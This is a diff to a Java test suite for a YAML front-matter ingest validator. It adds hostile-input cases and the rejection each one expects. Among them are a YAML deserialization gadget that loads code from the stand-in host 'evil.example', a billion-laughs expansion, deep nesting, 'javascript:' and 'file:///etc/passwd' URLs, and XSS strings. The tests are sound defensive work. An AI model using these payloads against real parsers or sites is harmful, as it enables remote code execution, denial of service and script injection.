@@ -88,21 +88,30 @@ class HostileFilesTest {
         cases.add(file("empty file", "", 400, null, 1, "file is empty"));
         cases.add(file("no front matter", "# Just Markdown\n\nSome text.\n", 400, null, 1, "does not start with a front-matter line"));
         cases.add(file("unclosed front matter", "---\ntitle: \"Never closed\"\nwebUrl: \"https://example.com/a\"\n", 400, null, 1, "never closed"));
-        cases.add(file("YAML syntax error", seedWithLine(9, "type: article: news"), 400, null, 9, "YAML syntax error"));
-        cases.add(file("tab indentation", seedWithLine(15, "\tname: New York Times"), 400, null, 15, "YAML syntax error"));
+        cases.add(file("YAML syntax error", seedWithLine(9, "type: article: news"), 400, "type", 9, "YAML syntax error"));
+        cases.add(file("tab indentation", seedWithLine(15, "\tname: New York Times"), 400, "provider", 15, "YAML syntax error"));
         // a double-quoted YAML scalar may span lines: the parser notices at the next quote, and says so there
-        cases.add(file("unterminated quote", seedWithLine(10, "quality: \"89"), 400, null, 18, "YAML syntax error"));
+        cases.add(file("unterminated quote", seedWithLine(10, "quality: \"89"), 400, "provider", 18, "YAML syntax error"));
         cases.add(file("duplicate keys", seedWithLine(4, "title: \"A second title\""), 400, "title", 4, "duplicate key 'title' (first on line 3)"));
         cases.add(file("YAML tag that would instantiate a class", seedWithLine(2,
                 "category: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://evil.example/\"]]]]"),
-                400, null, 2, "Global tag is not allowed: tag:yaml.org,2002:javax.script.ScriptEngineManager"));
+                400, "category", 2, "Global tag is not allowed: tag:yaml.org,2002:javax.script.ScriptEngineManager"));
         cases.add(file("local YAML tag", seedWithLine(9, "type: !article news"), 400, "type", 9, "YAML tag '!article' is not allowed"));
         cases.add(file("tag on the whole front matter", "---\n!!java.util.HashMap\ntitle: x\n---\n", 400, null, 2, "is not allowed"));
         cases.add(file("merge key", seedWithLine(2, "base: &base {category: news}\n<<: *base"), 400, null, 3, "merge keys"));
-        cases.add(file("billion laughs", billionLaughs(), 400, null, 4, "YAML refused"));
+        cases.add(file("billion laughs", billionLaughs(), 400, "c", 4, "YAML refused"));
         cases.add(file("1,000-deep nesting (flow)", "---\ndeep: " + "[".repeat(1000) + "]".repeat(1000) + "\n---\n",
-                400, null, 2, "YAML refused"));
-        cases.add(file("200-deep nesting (block)", blockNesting(200), 400, null, 22, "YAML refused"));
+                400, "deep", 2, "YAML refused: Nesting Depth exceeded max 20"));
+        cases.add(file("62-deep nesting (flow)", "---\ndeep: " + "[".repeat(62) + "]".repeat(62) + "\n---\n",
+                400, "deep", 2, "YAML refused: Nesting Depth exceeded max 20"));
+        // Block style is what the fast YAML path composes (SeedFormatLimitsTest proves it would take these
+        // files but for the limit), so these cases hold the limit on the fast path too.
+        cases.add(file("62-deep nesting (block)", blockNesting(62), 400, "k0", 22, "YAML refused: Nesting Depth exceeded max 20"));
+        cases.add(file("200-deep nesting (block)", blockNesting(200), 400, "k0", 22, "YAML refused: Nesting Depth exceeded max 20"));
+        cases.add(file("raw NUL in the front matter", seedWithLine(4, "excerpt: \"So \u0000 investigators\""), 400, "excerpt", 4,
+                "the character U+0000 is not allowed in YAML"));
+        cases.add(file("raw escape character in a topic", seedWithLine(23, "  - A\u001BI"), 400, "topics", 23,
+                "the character U+001B is not allowed in YAML"));
         cases.add(file("1,000-deep nesting (block) is over the length limit first", blockNesting(1000), 413, null, 2,
                 "characters long; the limit is 262144"));
         cases.add(file("invalid UTF-8", invalidUtf8InTitle(), 400, null, 3, "invalid UTF-8 at byte offset"));
@@ -121,6 +130,16 @@ class HostileFilesTest {
         cases.add(file("data: image URL", seedWithLine(27, "  - url: \"data:image/png;base64,iVBORw0KGgo=\""), 422, "images[0].url", 27, "'data:' is not allowed"));
         cases.add(file("javascript: provider logo", seedWithLine(18, "    - url: \"javascript:alert(1)\""), 422, "provider.images[0].url", 18, "'javascript:' is not allowed"));
         cases.add(file("file: related URL", seedWithLine(36, "    webUrl: \"file:///etc/passwd\""), 422, "related[0].webUrl", 36, "'file:' is not allowed"));
+        cases.add(file("javascript: related URL", seedWithLine(36, "    webUrl: \"javascript:alert(1)\""), 422, "related[0].webUrl", 36, "'javascript:' is not allowed"));
+        cases.add(file("javascript: image URL", seedWithLine(27, "  - url: \"javascript:alert(1)\""), 422, "images[0].url", 27, "'javascript:' is not allowed"));
+        cases.add(file("javascript: image URL of a related entry", seedWithLine(43, "      - url: \"javascript:alert(1)\""), 422,
+                "related[0].images[0].url", 43, "'javascript:' is not allowed"));
+        cases.add(file("33,000 topics", seedWithLine(24, "  - Computer Vision\n" + "  - AI\n".repeat(33_000).stripTrailing()), 422,
+                "topics", 23, "has 33002 topics; at most 100 are allowed (newsroom.ingest.article.max-topics)"));
+        cases.add(file("title of 2,001 characters", seedWithLine(3, "title: " + "t".repeat(2001)), 422, "title", 3,
+                "is 2001 characters long; at most 2000"));
+        cases.add(file("related title of 2,001 characters", seedWithLine(33, "  - title: " + "t".repeat(2001)), 422,
+                "related[0].title", 33, "at most 2000"));
         cases.add(file("relative article URL", seedWithLine(6, "webUrl: \"/2020/01/12/a.html\""), 422, "webUrl", 6, "must be an absolute http or https URL"));
         cases.add(file("space in the host", seedWithLine(6, "webUrl: \"https://www.ny times.com/a.html\""), 422, "webUrl", 6, "must be an absolute http or https URL"));
         cases.add(file("date in a wrong format", seedWithLine(5, "publishedDateTime: 12/01/2020 22:17"), 422, "publishedDateTime", 5, "ISO-8601"));
@@ -155,6 +174,10 @@ class HostileFilesTest {
                 "title: \"How the Police", "title: \"<script>alert('x')</script> How the Police")));
         cases.add(accepted("control characters in the title", seedAt("https://example.com/hostile/controls").replace(
                 "title: \"How the Police", "title: \"\\x07\\x00How\\t\\tthe Police")));
+        cases.add(accepted("NUL in the body", seedAt("https://example.com/hostile/nul-body") + "A body \u0000 with a NUL.\n"));
+        cases.add(accepted("escaped NUL and controls in every kind of field", seedAt("https://example.com/hostile/nul-fields")
+                .replace("category: news", "category: \"news\\x00\"").replace("  - AI\n", "  - \"AI\\x0B\"\n")
+                .replace("type: article\n", "type: \"article\\uFFFF\"\n").replace("secured: \"", "secured: \"\\x00")));
         cases.add(accepted("onerror attribute in an excerpt", seedAt("https://example.com/hostile/onerror").replace(
                 "excerpt: \"So investigators", "excerpt: \"<img src=x onerror=alert(1)> So investigators")));
 
@@ -241,12 +264,13 @@ class HostileFilesTest {
         return yaml.append("title: lol\n---\n").toString();
     }
 
+    /** Block mappings nested {@code depth} deep, ending in a key and a value (the fast YAML path's shape). */
     private static String blockNesting(int depth) {
         StringBuilder yaml = new StringBuilder("---\n");
         for (int i = 0; i < depth; i++) {
             yaml.append("  ".repeat(i)).append("k").append(i).append(":\n");
         }
-        return yaml.append("  ".repeat(depth)).append("x\n---\n").toString();
+        return yaml.append("  ".repeat(depth)).append("leaf: x\n---\n").toString();
     }
 
     private static byte[] invalidUtf8InTitle() {
